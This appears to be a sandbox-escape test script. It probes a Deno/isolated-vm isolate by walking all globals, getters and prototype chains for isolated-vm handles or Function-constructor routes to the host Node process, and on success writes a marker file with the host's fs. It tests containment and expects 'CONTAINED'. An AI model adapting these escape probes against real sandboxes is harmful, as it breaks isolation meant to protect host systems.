// @attack: walks every global and every property (own, inherited, symbol-keyed, non-enumerable,
// @attack: getters included) of Deno and the other globals, looking for isolated-vm handles
// @attack: (applySync, deref, derefInto, copySync, copy) or a constructor chain to a host Function,
// @attack: and uses whatever it finds.
// @expect: contained
// @tier: trusted
// ---- probe helpers, inlined so the script stands alone. The marker is built at run time
// so that no error message quoting this source can contain it by accident.
const MARK = ['ESC', 'APED'].join('');
const NAME = '17';
let escapedOnce = false;
/** A host (Node) process object, or something that leads to one; null otherwise. */
function hostProcess(v, depth = 0) {
  try {
    if (v === null || v === undefined || depth > 2) return null;
    if (typeof v !== 'object' && typeof v !== 'function') return null;
    // Node's process: pid and versions.node, and it hands out Node's own modules or bindings. (Deno's
    // namespace has pid but no versions.node; the sandbox's node:process, on globalThis as in Deno
    // 2.9, has both but hands out neither: its binding() is empty and it has no getBuiltinModule.)
    if (typeof v.pid === 'number' && typeof v.versions?.node === 'string' && (typeof v.getBuiltinModule === 'function' || typeof v.mainModule?.require === 'function' || (() => { try { return typeof v.binding('fs').open === 'function'; } catch { return false; } })())) return v;
    if (typeof v.require === 'function' && typeof v.require.resolve === 'function') return v;
    if (v.mainModule && typeof v.mainModule.require === 'function') return v;
    if (v.process && v.process !== v) return hostProcess(v.process, depth + 1);
  } catch {}
  return null;
}
/** Prints the marker and tries to leave a file behind with the host's own fs. */
function escaped(how, ref) {
  escapedOnce = true;
  console.log(MARK + ' via ' + how);
  try {
    const p = hostProcess(ref) ?? ref;
    const req = typeof p.getBuiltinModule === 'function' ? (m) => p.getBuiltinModule(m) : (p.require ?? p.mainModule.require);
    req('fs').writeFileSync('/tmp/rtc-escaped-' + NAME, how + '\n');
  } catch {}
}
function check(v, how) {
  const p = hostProcess(v);
  if (p) escaped(how, p);
  return p !== null;
}
const PROBE_SOURCE = 'try { return typeof process !== "undefined" ? process : (typeof require === "function" ? { require } : null) } catch (e) { return null }';
/** Treats F as a Function constructor (of any kind) and asks it for process/require. */
function probeCtor(F, how) {
  if (typeof F !== 'function') return;
  let got;
  try { got = F(PROBE_SOURCE)(); } catch { return; }
  try {
    if (got && typeof got.next === 'function') got = got.next();
    if (got && typeof got.then === 'function') { got.then((g) => check(g && 'value' in Object(g) && 'done' in Object(g) ? g.value : g, how), () => {}); return; }
    if (got && typeof got === 'object' && 'done' in got && 'value' in got) got = got.value;
  } catch {}
  check(got, how);
}
/** Every constructor reachable from v by .constructor and the prototype chain, probed. */
function probeChain(v, how) {
  const seen = new Set();
  let cur = v;
  for (let i = 0; i < 8 && cur !== null && cur !== undefined; i++) {
    if (check(cur, how)) return;
    let ctor;
    try { ctor = cur.constructor; } catch { ctor = undefined; }
    if (typeof ctor === 'function' && !seen.has(ctor)) {
      seen.add(ctor);
      probeCtor(ctor, how + '.constructor');
      let cc;
      try { cc = ctor.constructor; } catch { cc = undefined; }
      if (typeof cc === 'function' && !seen.has(cc)) { seen.add(cc); probeCtor(cc, how + '.constructor.constructor'); }
    }
    try { cur = Object.getPrototypeOf(cur); } catch { cur = null; }
  }
}
function done() {
  // a tick for probes that answer through promises
  return new Promise((resolve) => setTimeout(resolve, 20)).then(() => { if (!escapedOnce) console.log('CONTAINED'); });
}
// ---- end of probe helpers
const IVM_KEYS = ['applySync', 'applySyncPromise', 'applyIgnored', 'deref', 'derefInto', 'copySync', 'copyInto', 'compileScriptSync', 'createContextSync', 'evalSync', 'setSync', 'getSync'];
const seen = new WeakSet();
const queue = [[globalThis, 'globalThis', 0]];
let visited = 0;
const probedCtors = new Set();
function tryHandle(v, path) {
  // WeakRef.prototype.deref is the one standard method among the names looked for
  if (v instanceof WeakRef || v === WeakRef.prototype) return;
  for (const key of IVM_KEYS) {
    let has = false;
    try { has = typeof v[key] === 'function'; } catch {}
    if (!has) continue;
    escaped('isolated-vm handle at ' + path + '.' + key, null);
    try {
      if (key === 'applySync') check(v.applySync(undefined, ['return process'], { arguments: { copy: true }, result: { copy: true } }), path + ' applySync');
      if (key === 'deref') check(v.deref(), path + ' deref');
      if (key === 'copySync') check(v.copySync(), path + ' copySync');
    } catch {}
  }
}
while (queue.length > 0 && visited < 200000) {
  const [v, path, depth] = queue.shift();
  if (v === null || (typeof v !== 'object' && typeof v !== 'function')) continue;
  if (seen.has(v)) continue;
  seen.add(v);
  visited++;
  check(v, path);
  tryHandle(v, path);
  if (typeof v === 'function') {
    let ctor;
    try { ctor = v.constructor; } catch {}
    if (ctor && !probedCtors.has(ctor)) { probedCtors.add(ctor); probeCtor(ctor, path + '.constructor'); }
  }
  if (depth > 6) continue;
  let keys = [];
  try { keys = Reflect.ownKeys(v); } catch {}
  for (const key of keys) {
    let desc;
    try { desc = Reflect.getOwnPropertyDescriptor(v, key); } catch { continue; }
    if (!desc) continue;
    const sub = path + '.' + String(key);
    if ('value' in desc) queue.push([desc.value, sub, depth + 1]);
    if (desc.get) {
      queue.push([desc.get, sub + '<get>', depth + 1]);
      // reading a getter on a prototype with the wrong receiver just throws; that is fine
      try {
        const got = Reflect.get(v, key);
        if (got instanceof Promise) got.catch(() => {}); // e.g. a stream's rejected `closed`
        queue.push([got, sub, depth + 1]);
      } catch {}
    }
    if (desc.set) queue.push([desc.set, sub + '<set>', depth + 1]);
  }
  let proto;
  try { proto = Reflect.getPrototypeOf(v); } catch {}
  if (proto) queue.push([proto, path + '.[[Prototype]]', depth + 1]);
}
for (const name of ['require', 'process', 'module', 'exports', '__dirname', '__filename', 'global', 'Buffer', 'ivm', '_ivm', '$0', 'host', '_host', '__host', 'lib', 'ops', '__bootstrap', 'core', 'internals']) {
  try { if (name in globalThis) { const v = globalThis[name]; if (check(v, 'global ' + name) || (typeof v === 'function' && name === 'require')) escaped('global ' + name, { require: v }); } } catch {}
}
try { if (globalThis.Deno) for (const k of ['core', 'internal', '__bootstrap']) { const v = Deno[k]; if (v !== undefined && typeof v !== 'symbol') probeChain(v, 'Deno.' + k); } } catch {}
try { const internal = Deno[Deno.internal]; if (internal) probeChain(internal, 'Deno[Deno.internal]'); } catch {}
console.log('walked', visited > 100 ? 'many' : 'few', 'objects');
await done();
